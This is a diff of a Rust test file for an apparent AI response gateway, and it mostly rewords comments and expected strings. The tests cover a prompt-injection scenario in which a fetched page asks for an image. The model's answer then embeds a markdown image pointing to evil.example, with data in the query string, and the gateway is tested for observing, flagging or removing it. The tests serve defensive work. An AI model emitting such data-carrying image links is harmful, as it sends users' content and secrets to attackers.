@@ -1,4 +1,4 @@
-//! What an answer points to, over real sockets: in every wire, streamed and not.
+//! What a response points to, over real sockets: in every wire, streamed and not.
 
 use ombud_core::event::{AnswerFinding, EventKind};
 use ombud_core::gate::{Carried, Gate};
@@ -7,7 +7,7 @@ use rstest::rstest;
 use super::harness::{EMAIL, KEY, Rig, token};
 use super::wires::*;
 
-/// A conversation in which a page was fetched that wants a picture shown.
+/// A conversation in which a fetched page asks for an image to be shown.
 fn fetched() -> Vec<Turn> {
     vec![
         Turn::System("You help at shop.example.".into()),
@@ -33,7 +33,7 @@ async fn got(rig: &Rig, wire: Wire, stream: bool, turns: &[Turn]) -> String {
     let answer = rig.post(wire.path(), wire.request(turns, stream)).await;
     assert_eq!(answer.status(), 200);
     let body = answer.text().await.unwrap();
-    // Some wires say the text again where it ends.
+    // Some wires repeat the text at its end.
     let again = body.contains("evil.example/p.png");
     let text = wire.read(&body, stream).text;
     assert_eq!(again, text.contains("evil.example/p.png"), "{body}");
@@ -57,7 +57,7 @@ async fn a_picture_that_carries_data_is_not_fetched(
     let answer = "Rates fell. ![done](https://evil.example/p.png?d=XK-4711-QP) Bye.";
     let rig = rig(wire, stream, answer, cut, None).await;
     let text = got(&rig, wire, stream, &fetched()).await;
-    assert_eq!(text, "Rates fell. done (taken out: picture from `evil.example`) Bye.");
+    assert_eq!(text, "Rates fell. done (removed: image from `evil.example`) Bye.");
     let [finding] = &*found(&rig).await else { panic!() };
     assert_eq!((&*finding.rule, &*finding.decision, &*finding.form), ("answer.image_data", "ask", "image"));
     assert_eq!(finding.carries, [Carried::Content]);
@@ -68,7 +68,7 @@ async fn a_picture_that_carries_data_is_not_fetched(
 async fn a_mark_that_went_out_before_its_picture_does_not_join_what_comes() {
     let rig = rig(Wire::Chat, true, "So ![a](https://evil.example/p.png)", 1, None).await;
     let text = got(&rig, Wire::Chat, true, &fetched()).await;
-    assert_eq!(text, "So ! [a (not loaded: picture from `evil.example`)](https://evil.example/p.png)");
+    assert_eq!(text, "So ! [a (not loaded: image from `evil.example`)](https://evil.example/p.png)");
 }
 
 #[rstest]
@@ -98,9 +98,9 @@ async fn modes_of_pictures(
         (text, found(&rig).await.remove(0).decision)
     };
     assert_eq!(left(Gate::Observe).await, (answer.to_owned(), "would_ask".to_owned()));
-    let shown = "[a chart (not loaded: picture from `evil.example`)](https://evil.example/p.png) Bye.";
+    let shown = "[a chart (not loaded: image from `evil.example`)](https://evil.example/p.png) Bye.";
     assert_eq!(left(Gate::Ask).await, (shown.to_owned(), "ask".to_owned()));
-    let removed = "a chart (taken out: picture from `evil.example`) Bye.";
+    let removed = "a chart (removed: image from `evil.example`) Bye.";
     assert_eq!(left(Gate::Block).await, (removed.to_owned(), "block".to_owned()));
 }
 
@@ -119,7 +119,7 @@ async fn a_token_in_an_address_is_the_value_it_stands_for(#[values(false, true)]
     let text = got(&rig, Wire::Chat, stream, &turns).await;
     assert!(!text.contains("http") && text.ends_with(EMAIL), "{text}");
     let carried: Vec<Vec<Carried>> = found(&rig).await.into_iter().map(|found| found.carries).collect();
-    // The last one is about the words themselves: only the mail says whose address it is.
+    // The last one concerns the text itself: only the mail says whose address it is.
     assert_eq!(
         carried,
         [vec![Carried::Personal, Carried::Content], vec![Carried::Secret], vec![Carried::Personal]]
